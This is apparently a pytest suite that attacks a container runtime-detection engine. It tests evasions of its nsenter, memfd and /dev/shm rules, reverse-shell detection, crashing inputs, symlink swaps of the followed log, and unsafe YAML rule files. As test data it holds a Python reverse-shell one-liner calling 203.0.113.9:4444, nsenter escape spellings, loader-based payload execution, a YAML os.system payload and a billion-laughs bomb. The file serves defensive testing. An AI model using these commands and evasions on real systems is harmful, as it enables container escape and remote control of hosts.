"""Hostile-workspace attacks on Worktrace (issue 15): evasion, lying correlation, crashes.

Each test is one attack as a workspace user could mount it with their own processes (their
execs, names, arguments, sockets) or, for the rules and the follower, as a careless operator
could be led into. A test that fails is an attack that breaks Worktrace.
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import orjson
import pytest
from structlog.testing import capture_logs

from stockade.authz import Authorizer
from stockade.core.errors import InvalidInput
from stockade.core.settings import AuthzSettings
from stockade.worktrace import AnomalyConfig, Engine, load_rules
from stockade.worktrace._alerts import to_event
from stockade.worktrace._events import MAX_LINE_BYTES, parse_line
from stockade.worktrace._ingest import FileFollower
from stockade.worktrace._respond import AlertResponder

from .conftest import (
    WORKSPACE_LABELS,
    connect_event,
    exec_event,
    kprobe_event,
    line,
    parent_process,
    process,
    socket_event,
)


@pytest.fixture(scope="module")
def engine_rules() -> Any:
    return load_rules()


def fresh(rules: Any) -> Engine:
    return Engine(rules, anomaly=AnomalyConfig(enabled=False))


def rule_ids(engine: Engine, event: dict[str, Any]) -> set[str]:
    return {a.rule_id for a in engine.feed(line(event)) if a.kind == "rule"}


def sock(daddr: str, dport: int) -> dict[str, Any]:
    return {
        "sock_arg": {
            "family": "AF_INET",
            "type": "SOCK_STREAM",
            "protocol": "IPPROTO_TCP",
            "saddr": "10.8.0.12",
            "daddr": daddr,
            "sport": 50000,
            "dport": dport,
        }
    }


# --- evasion of the nsenter rule ---------------------------------------------------------


@pytest.mark.parametrize(
    ("binary", "arguments"),
    [
        ("/usr/bin/../bin/nsenter", "-t 1 -m -u -n -i sh"),
        ("/usr/bin/nsenter", "--target=1 -a sh"),
        ("/usr/bin/nsenter", "--target 1 -a sh"),
        ("/usr/bin/nsenter", "-t1 -a sh"),
        ("/usr/bin/nsenter", "-a -t 1 sh"),
        ("/usr/bin/nsenter", "-m  -t   1  sh"),  # oddly split
    ],
)
def test_nsenter_spellings_held(engine_rules: Any, binary: str, arguments: str) -> None:
    assert "nsenter-target" in rule_ids(fresh(engine_rules), exec_event(binary, arguments))


def test_nsenter_through_env_held(engine_rules: Any) -> None:
    """``env nsenter -t 1``: env execs nsenter, whose own exec event fires."""
    engine = fresh(engine_rules)
    assert rule_ids(engine, exec_event("/usr/bin/env", "nsenter -t 1 sh")) == set()
    assert "nsenter-target" in rule_ids(engine, exec_event("/usr/bin/nsenter", "-t 1 sh"))


@pytest.mark.parametrize(
    "arguments",
    [
        "-at 1 sh",  # -a takes no argument: getopt reads -t 1 from the same word
        "-Ft1 sh",  # -F takes none either
        "--tar=1 -a sh",  # getopt_long accepts any unambiguous prefix of --target
        "--targ 1 -a sh",
        "--mount=/proc/1/ns/mnt --net=/proc/1/ns/net sh",  # no -t at all: pid 1's namespaces
        "--mount /proc/1/ns/mnt sh",
    ],
)
def test_nsenter_getopt_spellings_broke(engine_rules: Any, arguments: str) -> None:
    """BROKE: the rule's globs are ``-t``, ``-t*``, ``--target``, ``--target=*`` only."""
    assert "nsenter-target" in rule_ids(
        fresh(engine_rules), exec_event("/usr/bin/nsenter", arguments)
    )


def test_busybox_nsenter_applet_broke(engine_rules: Any) -> None:
    """BROKE: ``busybox nsenter -t 1`` is an exec of busybox; the rule keys on the basename."""
    alerts = rule_ids(fresh(engine_rules), exec_event("/bin/busybox", "nsenter -t 1 -m sh"))
    assert alerts & {"nsenter-target", "nsenter-busybox"}
    assert not rule_ids(fresh(engine_rules), exec_event("/bin/busybox", "ls -t /tmp"))


def test_renamed_nsenter_caught_by_its_setns_held(engine_rules: Any) -> None:
    """A renamed copy escapes the exec rule (``~/ns`` only feeds attack paths) but its
    ``setns`` is still seen by the syscall rule."""
    engine = fresh(engine_rules)
    assert rule_ids(engine, exec_event("/home/alice/ns", "-t 1 -m sh")) == set()
    probe = kprobe_event("sys_setns", [{"int_arg": 3}, {"int_arg": 0}], binary="/home/alice/ns")
    assert "setns" in rule_ids(engine, probe)


# --- drop-and-execute, memfd, /dev/shm --------------------------------------------------


@pytest.mark.parametrize(
    "binary",
    ["/memfd: (deleted)", "/memfd:nsenter (deleted)", "/memfd:../../usr/bin/ls", "/proc/self/fd/3"],
)
def test_memfd_odd_names_held(engine_rules: Any, binary: str) -> None:
    assert "memfd-exec" in rule_ids(fresh(engine_rules), exec_event(binary))


def test_dev_shm_through_the_loader_broke(engine_rules: Any) -> None:
    """BROKE: ``ld.so /dev/shm/x`` maps and runs the payload with no exec of it."""
    event = exec_event("/lib64/ld-linux-x86-64.so.2", "/dev/shm/x")
    assert rule_ids(fresh(engine_rules), event) & {"exec-dev-shm", "loader-exec-writable"}


@pytest.mark.parametrize("binary", ["/dev//shm/x", "/dev/shm/./x", "/tmp/../dev/shm/x"])
def test_non_canonical_dev_shm_path_broke(engine_rules: Any, binary: str) -> None:
    """BROKE (if the export carries the path as given to execve): no normalisation."""
    assert "exec-dev-shm" in rule_ids(fresh(engine_rules), exec_event(binary))


@pytest.mark.parametrize("loader", ["/lib/x86_64-linux-gnu/ld-2.31.so", "/lib/ld-musl-armhf.so.1"])
def test_a_payload_run_by_the_loader_under_its_real_files_name_broke(
    engine_rules: Any, loader: str
) -> None:
    """BROKE: Tetragon reports the loader's resolved path (Debian 11's ld-linux-x86-64.so.2
    is ld-2.31.so), which no list of link names had: ``ld.so /tmp/x`` went unseen."""
    for payload, rule in (("/dev/shm/x", "exec-dev-shm"), ("/tmp/x", "drop-exec-tmp")):
        assert rule in rule_ids(fresh(engine_rules), exec_event(loader, payload)), payload


def test_non_canonical_path_run_by_the_loader_held(engine_rules: Any) -> None:
    # the program ld.so runs is matched on its resolved path too, like an exec'd binary
    event = exec_event("/lib64/ld-linux-x86-64.so.2", "/usr/bin/../../dev/shm/x")
    assert "exec-dev-shm" in rule_ids(fresh(engine_rules), event)


@pytest.mark.parametrize("kind", ["process_exec", "process_exit", "process_kprobe"])
def test_every_event_resolves_its_process_and_parent_binaries(kind: str) -> None:
    body: dict[str, Any] = {"process": {"exec_id": "YQ==", "binary": "/dev//shm/./x"},
                            "parent": {"exec_id": "Yg==", "binary": "/tmp/../bin/sh"}}  # fmt: skip
    if kind == "process_kprobe":
        body["function_name"] = "fd_install"
    event = parse_line(orjson.dumps({kind: body}))
    assert (event.process.binary, event.parent.binary if event.parent else None) == (
        "/dev/shm/x",
        "/bin/sh",
    )


# --- reverse shells ------------------------------------------------------------------------


def test_bash_dev_tcp_reverse_shell_held(engine_rules: Any) -> None:
    probe = kprobe_event("tcp_connect", [sock("203.0.113.9", 4444)], binary="/usr/bin/bash")
    assert "reverse-shell-connect" in rule_ids(fresh(engine_rules), probe)


NODE = "node-1"


def at(event: dict[str, Any], pid: int, parent_pid: int | None = None) -> dict[str, Any]:
    """``event`` of process ``pid`` (whose parent is ``parent_pid``), as Tetragon keys them."""
    body = event[next(k for k in event if k.startswith("process_"))]
    body["process"]["pid"] = pid
    if parent_pid is not None:
        body["parent"]["pid"] = parent_pid
    return event


def dup(oldfd: int, newfd: int, *, binary: str, call: str = "__x64_sys_dup2") -> dict[str, Any]:
    """A ``dup2``/``dup3`` kprobe as the generated policy asks for it (``oldfd``, ``newfd``,
    dup3's ``flags``; the return value: ``newfd``)."""
    args: list[dict[str, Any]] = [{"int_arg": oldfd}, {"int_arg": newfd}]
    if call.endswith("dup3"):
        args.append({"int_arg": 0})
    event = kprobe_event(call, args, binary=binary)
    event["process_kprobe"]["return"] = {"int_arg": newfd}
    return event


def exit_event(binary: str, pid: int) -> dict[str, Any]:
    body = {"process": process(binary), "parent": parent_process(), "time": "2026-12-01T10:00:02Z"}
    return at({"process_exit": body, "node_name": NODE}, pid)


def connect(binary: str, daddr: str = "203.0.113.9", dport: int = 4444) -> dict[str, Any]:
    return kprobe_event("tcp_connect", [sock(daddr, dport)], binary=binary)


def connected(
    binary: str,
    daddr: str = "203.0.113.9",
    dport: int = 4444,
    *,
    fd: int = 3,
    cloexec: bool = True,
) -> list[dict[str, Any]]:
    """``s = socket(); s.connect(...)`` as the generated policy reports it: the socket's
    creation on ``fd`` (close-on-exec, as Python's), its connect and ``tcp_connect``."""
    return [
        socket_event(fd, binary=binary, cloexec=cloexec),
        connect_event(fd, binary=binary),
        connect(binary, daddr, dport),
    ]


def fired_over(engine_rules: Any, events: list[dict[str, Any]]) -> list[set[str]]:
    """The rule ids each event of a sequence fired, fed in order to one engine."""
    engine = fresh(engine_rules)
    return [rule_ids(engine, event) for event in events]


def python_reverse_shell(call: str = "__x64_sys_dup2") -> list[dict[str, Any]]:
    """python -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));
    [os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("sh")' as Tetragon reports it: the
    exec of python3, its socket on fd 3 and connect, its three dup2 of fd 3 and pty.spawn's
    child exec of sh."""
    py = "/usr/bin/python3"
    code = "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.9',4444));"
    code += "[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn('sh')"
    return [
        at(exec_event(py, f"-c {code}"), 4242),
        *(at(event, 4242) for event in connected(py)),
        *(at(dup(3, fd, binary=py, call=call), 4242) for fd in (0, 1, 2)),
        at(exec_event("/bin/sh"), 4243, parent_pid=4242),
    ]


def test_python_socket_reverse_shell_broke(engine_rules: Any) -> None:
    """Was BROKE: python connects (not a shell), dup2()s the socket onto its stdio, then
    pty.spawn runs a shell: nothing fired. The shell's exec now fires, and only it."""
    fired = fired_over(engine_rules, python_reverse_shell())
    assert fired[-1] == {"reverse-shell-stdio"}
    assert not set().union(*fired[:-1])


def test_python_reverse_shell_on_arm64_dup3_held(engine_rules: Any) -> None:
    """arm64 has no dup2 syscall: Python's os.dup2 is a dup3 there."""
    fired = fired_over(engine_rules, python_reverse_shell(call="__arm64_sys_dup3"))
    assert fired[-1] == {"reverse-shell-stdio"}


def test_reverse_shell_exec_without_fork_held(engine_rules: Any) -> None:
    """``os.execv("/bin/sh", ...)`` after the dup2s: the shell is the same pid."""
    py = "/usr/bin/python3"
    events = [
        *(at(event, 5000) for event in connected(py)),
        at(dup(3, 0, binary=py), 5000),
        at(exec_event("/bin/bash", "-i"), 5000),
    ]
    assert fired_over(engine_rules, events)[-1] == {"reverse-shell-stdio"}


def test_subprocess_shell_of_a_networked_program_is_benign(engine_rules: Any) -> None:
    """pip/requests connects, then ``subprocess.run("sh -c ...", stdout=PIPE)``: the dup2s
    of the pipes happen in the forked child, which connected nothing."""
    py = "/usr/bin/python3"
    events = [
        *(at(event, 6000) for event in connected(py, "151.101.0.223", 443)),
        at(dup(5, 0, binary=py), 6001, parent_pid=6000),  # the fork, before its exec
        at(dup(7, 1, binary=py), 6001, parent_pid=6000),
        at(exec_event("/bin/sh", "-c make"), 6001, parent_pid=6000),
    ]
    assert not set().union(*fired_over(engine_rules, events))


def test_ssh_session_is_benign(engine_rules: Any) -> None:
    """An sshd session, even one forwarding a port out (``ssh -R``: sshd connects): the
    session child puts the pty on its stdio and runs the login shell."""
    sshd = "/usr/lib/openssh/sshd-session"
    events = [
        # a remote forward's connection (on fd 11, inherited by the session child)
        *(at(e, 7000) for e in connected(sshd, "127.0.0.1", 8080, fd=11, cloexec=False)),
        at(dup(9, 0, binary=sshd), 7001, parent_pid=7000),
        at(dup(9, 1, binary=sshd), 7001, parent_pid=7000),
        at(dup(9, 2, binary=sshd), 7001, parent_pid=7000),
        at(exec_event("/bin/bash", "-l"), 7001, parent_pid=7000),
    ]
    assert not set().union(*fired_over(engine_rules, events))


def test_git_fetch_over_ssh_is_benign(engine_rules: Any) -> None:
    """git fetch: git's child wires pipes to ssh (GIT_SSH_COMMAND through sh -c), ssh
    connects; afterwards git runs a hook shell. No process both connected and replaced its
    own stdio before a shell ran."""
    git = "/usr/bin/git"
    events = [
        at(exec_event(git, "fetch origin"), 8000),
        at(dup(4, 0, binary=git), 8001, parent_pid=8000),
        at(dup(7, 1, binary=git), 8001, parent_pid=8000),
        at(exec_event("/bin/sh", "-c 'ssh -o BatchMode=yes git@forge'"), 8001, parent_pid=8000),
        at(exec_event("/usr/bin/ssh", "-o BatchMode=yes git@forge"), 8001, parent_pid=8000),
        *(at(e, 8001) for e in connected("/usr/bin/ssh", "192.0.2.10", 22)),
        at(exec_event("/bin/sh", ".git/hooks/post-merge"), 8002, parent_pid=8000),
        at(exec_event("/usr/lib/git-core/git-remote-https", "origin"), 8003, parent_pid=8000),
        *(at(e, 8003) for e in connected("/usr/lib/git-core/git-remote-https", "192.0.2.10", 443)),
    ]
    assert not set().union(*fired_over(engine_rules, events))


def test_stdout_and_stderr_redirect_after_connect_is_benign(engine_rules: Any) -> None:
    """A connected program that sends its stdout and stderr to a log (``dup2(fd, 1..2)``)."""
    py = "/usr/bin/python3"
    events = [*(at(e, 9000) for e in connected(py)), at(dup(4, 1, binary=py), 9000)]
    events.append(at(dup(4, 2, binary=py), 9000))
    events.append(at(dup(3, 1, binary=py), 9000))  # or the socket itself: not stdin
    events.append(at(dup(3, 2, binary=py), 9000))
    events.append(at(exec_event("/bin/sh", "-c true"), 9001, parent_pid=9000))
    assert not set().union(*fired_over(engine_rules, events))


def test_reused_pid_after_exit_is_not_a_reverse_shell(engine_rules: Any) -> None:
    py = "/usr/bin/python3"
    events = [*(at(e, 4300) for e in connected(py)), at(dup(3, 0, binary=py), 4300)]
    events.append(exit_event(py, 4300))
    events.append(at(exec_event("/bin/sh"), 4300, parent_pid=1))  # a new process, same pid
    assert not set().union(*fired_over(engine_rules, events))


def test_same_pid_on_another_node_is_not_a_reverse_shell(engine_rules: Any) -> None:
    py = "/usr/bin/python3"
    events = [*(at(e, 4400) for e in connected(py)), at(dup(3, 0, binary=py), 4400)]
    other = at(exec_event("/bin/sh"), 4401, parent_pid=4400)
    other["node_name"] = "node-2"
    assert not set().union(*fired_over(engine_rules, [*events, other]))


# --- correlation -------------------------------------------------------------------------


def test_crafted_session_label_star_cannot_kill_every_session(engine_rules: Any) -> None:
    """BROKE: a session id of ``*`` in the alert becomes ``SessionKill(session_id="*")``,
    which the gateway reads as every session of the user."""

    labels = dict(WORKSPACE_LABELS, **{"stockade.dev/session": "*"})
    engine = fresh(engine_rules)
    alerts = engine.feed(line(exec_event("/usr/bin/nsenter", "-t 1 sh", labels=labels)))
    assert alerts
    _, events, _ = AlertResponder(Authorizer(settings=AuthzSettings()), bus=None).decide(alerts[0])  # type: ignore[arg-type]
    assert all(getattr(e, "session_id", "") != "*" for e in events)


# --- crashing or slowing the ingester ----------------------------------------------------


@pytest.mark.parametrize(
    "raw",
    [
        b'{"process_exec": ' + b"x" * (MAX_LINE_BYTES * 10) + b"}",  # a 10 MB line
        b"[" * 100_000 + b"]" * 100_000,  # deeply nested
        b'{"process_exec": {"process": {"binary": "\xff\xfe"}}}',  # invalid UTF-8
        b'{"process_kprobe": {"process": {"exec_id": "eA==", "binary": "/bin/x"},'
        b' "function_name": "sys_ptrace", "args": [{"weird_arg": {"a": 1}}]}}',
        b'{"process_exec": ' + b'{"a":' * 5000 + b"1" + b"}" * 5000 + b"}",
    ],
)
def test_hostile_lines_are_counted_never_fatal(engine_rules: Any, raw: bytes) -> None:
    engine = fresh(engine_rules)
    assert engine.feed(raw) == ()
    assert engine.malformed + engine.unknown == 1


@pytest.mark.parametrize(
    ("rules_text", "function", "arg"),
    [
        # another TracingPolicy on a hooked call (the engine reads every policy's events): a
        # struct where the default rules compare an int (packet-socket, ptrace-attach)
        (None, "__x64_sys_socket", {"sock_arg": {"family": "AF_INET", "dport": 17}}),
        (None, "__x64_sys_ptrace", {"file_arg": {"path": "/proc/1/mem"}}),
        (None, "__x64_sys_ptrace", {"bpf_attr_arg": {"ProgName": "x"}}),
        # a char_buf rule with values: the workspace writes a buffer longer than Tetragon
        # copies, which comes as truncated_bytes_arg
        (
            "rules:\n  - {id: w, confidence: 0.5, report: true, global: true, syscall: {call:"
            " [sys_write], args: [{index: 1, type: char_buf, values: [x]}]}}\n",
            "__x64_sys_write",
            {"truncated_bytes_arg": {"bytes_arg": "eA==", "orig_size": "9999"}},
        ),
    ],
)
def test_an_argument_of_an_unexpected_kind_is_no_match_never_fatal_broke(
    engine_rules: Any, tmp_path: Path, rules_text: str | None, function: str, arg: dict[str, Any]
) -> None:
    """BROKE: ``value not in cond.values`` on an unhashable argument raised TypeError out of
    ``feed``: the ingestion loop died on the line, and again on it after each restart."""
    rules = engine_rules
    if rules_text is not None:
        (tmp_path / "r.yaml").write_text(rules_text)
        rules = load_rules(tmp_path)
    engine = fresh(rules)
    assert engine.feed(line(kprobe_event(function, [arg]))) == ()
    assert engine.malformed == engine.unknown == 0
    if rules_text is None:
        assert engine.feed(line(exec_event("/usr/bin/nsenter", "-t 1 sh")))  # still matching


def test_exec_id_cycle_is_bounded_held(engine_rules: Any) -> None:
    engine = Engine(engine_rules, anomaly=AnomalyConfig(learning_events=0, threshold=0.0))
    a = exec_event("/tmp/a", parent_exec_id="Yg==")
    a["process_exec"]["process"]["exec_id"] = "YQ=="
    b = exec_event("/tmp/b", parent_exec_id="YQ==")
    b["process_exec"]["process"]["exec_id"] = "Yg=="
    engine.feed(line(b))
    alerts = engine.feed(line(a))
    assert all(len(x.ancestry) <= 16 for x in alerts)


def test_many_ancestries_stay_bounded_held(engine_rules: Any) -> None:
    engine = Engine(engine_rules, anomaly=AnomalyConfig(learning_events=0, max_ancestries=100))
    for n in range(2000):
        engine.feed(line(exec_event(f"/usr/bin/tool{n}")))
    assert all(len(c) <= 100 for c in engine._ancestries.values())


def test_long_binary_names_do_not_break_the_alert_event_broke(engine_rules: Any) -> None:
    """BROKE: the anomaly name embeds the ancestry's basenames (255 bytes each, chosen by the
    user); past 512 characters ``to_event`` raises and the bus sink's loop dies with it."""
    engine = Engine(engine_rules, anomaly=AnomalyConfig(learning_events=0, threshold=0.0))
    alerts: list[Any] = []
    parent = "cGFyZW50"
    for n, letter in enumerate("ABCD"):
        event = exec_event("/home/alice/" + letter * 255, parent_exec_id=parent)
        parent = event["process_exec"]["process"]["exec_id"] = f"bG9uZ{n}"
        alerts += engine.feed(line(event))
    anomalies = [a for a in alerts if a.kind == "anomaly"]
    assert anomalies
    for alert in anomalies:
        assert len(to_event(alert).name) <= 512


# --- the followed file ------------------------------------------------------------------


def _drain(follower: FileFollower, polls: int = 3) -> list[bytes]:
    lines: list[bytes] = []
    for _ in range(polls):
        lines.extend(follower.poll())
    return lines


def test_symlink_swap_to_a_secret_file_is_not_read_broke(tmp_path: Path) -> None:
    """Was BROKE (needs write access to the export's directory): a swap of the export for a
    symlink to another file was followed into it (``os.open`` without ``O_NOFOLLOW``)."""
    export = tmp_path / "tetragon.log"
    export.write_bytes(b"")
    follower = FileFollower(export)
    follower.poll()
    secret = tmp_path / "shadow"
    secret.write_bytes(b"root:$6$secret:19000:0:99999:7:::\n")
    export.unlink()
    os.symlink(secret, export)
    with capture_logs() as logs:
        lines = _drain(follower)
    assert not any(b"secret" in x for x in lines)
    refusals = [e for e in logs if e["event"] == "worktrace.export_refused"]
    assert len(refusals) == 1  # once, not once per poll
    assert "symlink" in refusals[0]["reason"]
    assert refusals[0]["path"] == str(export)
    export.unlink()  # the real export comes back: followed again from its start
    export.write_bytes(b"after\n")
    assert _drain(follower) == [b"after"]


def test_export_that_is_a_symlink_from_the_start_is_not_read(tmp_path: Path) -> None:
    secret = tmp_path / "shadow"
    secret.write_bytes(b"root:$6$secret\n")
    export = tmp_path / "tetragon.log"
    os.symlink(secret, export)
    follower = FileFollower(export)
    assert _drain(follower) == []
    assert follower.refused == 3


def test_export_that_is_a_fifo_is_refused_without_blocking(tmp_path: Path) -> None:
    """A FIFO would block the open (no writer) or feed whatever a writer sends: refused."""
    export = tmp_path / "tetragon.log"
    os.mkfifo(export)
    follower = FileFollower(export)
    with capture_logs() as logs:
        assert _drain(follower) == []
    (refusal,) = [e for e in logs if e["event"] == "worktrace.export_refused"]
    assert "FIFO" in refusal["reason"]


def test_symlinked_rotated_file_is_not_drained(tmp_path: Path) -> None:
    """A ``tetragon-<time>.log`` symlink planted beside the export is not taken for a rotated
    file the follower missed (which it reads whole)."""
    export = tmp_path / "tetragon.log"
    export.write_bytes(b"one\n")
    follower = FileFollower(export)
    assert follower.poll() == [b"one"]
    secret = tmp_path / "shadow"
    secret.write_bytes(b"root:$6$secret\n")
    os.symlink(secret, tmp_path / "tetragon-2026-12-01T10-00-00.000.log")
    export.rename(tmp_path / "tetragon-2026-12-01T10-00-01.000.log")
    export.write_bytes(b"two\n")
    lines = _drain(follower)
    assert lines == [b"two"]


def test_truncate_and_rewrite_between_polls_broke(tmp_path: Path) -> None:
    """Was BROKE (the writer's doing, not the user's): a copytruncate followed by a longer
    write before the next poll left the size above the offset, so the truncation went unseen
    and the new line was read from the old offset (lost)."""
    export = tmp_path / "tetragon.log"
    export.write_bytes(b"")
    follower = FileFollower(export)
    follower.poll()
    first = line(exec_event("/usr/bin/true"))
    with export.open("ab") as out:
        out.write(first + b"\n")
    assert follower.poll() == [first]
    rewritten = [line(exec_event("/usr/bin/false")), line(exec_event("/usr/bin/env"))]
    assert len(rewritten[0]) > len(first)
    with export.open("r+b") as out:  # copytruncate: the same inode, emptied, written again
        out.truncate(0)
        out.write(b"".join(x + b"\n" for x in rewritten))
    assert _drain(follower) == rewritten  # each seen once: none lost, none duplicated
    assert follower.truncations == 1


def test_truncate_and_rewrite_a_long_file_between_polls(tmp_path: Path) -> None:
    """The same past the fingerprint's first bytes: the bytes before the offset are checked."""
    export = tmp_path / "tetragon.log"
    before = [b"%05d" % n + b"x" * 200 for n in range(50)]
    export.write_bytes(b"".join(x + b"\n" for x in before))
    follower = FileFollower(export)
    assert follower.poll() == before
    after = [b"%05d" % n + b"y" * 200 for n in range(80)]
    with export.open("r+b") as out:
        out.truncate(0)
        out.write(b"".join(x + b"\n" for x in after))
    assert _drain(follower) == after
    with export.open("ab") as out:  # plain appends afterwards are read once, from the offset
        out.write(b"tail\n")
    assert _drain(follower) == [b"tail"]
    assert follower.truncations == 1


# --- rules YAML ------------------------------------------------------------------------


def test_python_object_tag_refused_held(tmp_path: Path) -> None:
    (tmp_path / "r.yaml").write_text(
        "rules:\n  - !!python/object/apply:os.system ['touch /tmp/pwned-atk15']\n"
    )
    with pytest.raises(InvalidInput):
        load_rules(tmp_path)
    assert not Path("/tmp/pwned-atk15").exists()


def test_billion_laughs_refused_broke(tmp_path: Path) -> None:
    """BROKE: ``_build`` expands every alias again: 4 levels of 32 here are ~1M nodes built
    before validation even starts (the real bomb, 9 of 9, never ends)."""
    text = 'a0: &a0 ["lol"]\n'
    for n in range(1, 5):
        text += f"a{n}: &a{n} [" + ", ".join([f"*a{n - 1}"] * 32) + "]\n"
    text += "rules: []\n"
    (tmp_path / "r.yaml").write_text(text)
    with pytest.raises(InvalidInput, match="alias"):
        load_rules(tmp_path)


def test_deeply_nested_yaml_is_one_line_error_broke(tmp_path: Path) -> None:
    """BROKE: 5,000 nested flow lists end in RecursionError, not InvalidInput."""
    (tmp_path / "r.yaml").write_text("rules: " + "[" * 5000 + "]" * 5000 + "\n")
    with pytest.raises(InvalidInput):
        load_rules(tmp_path)
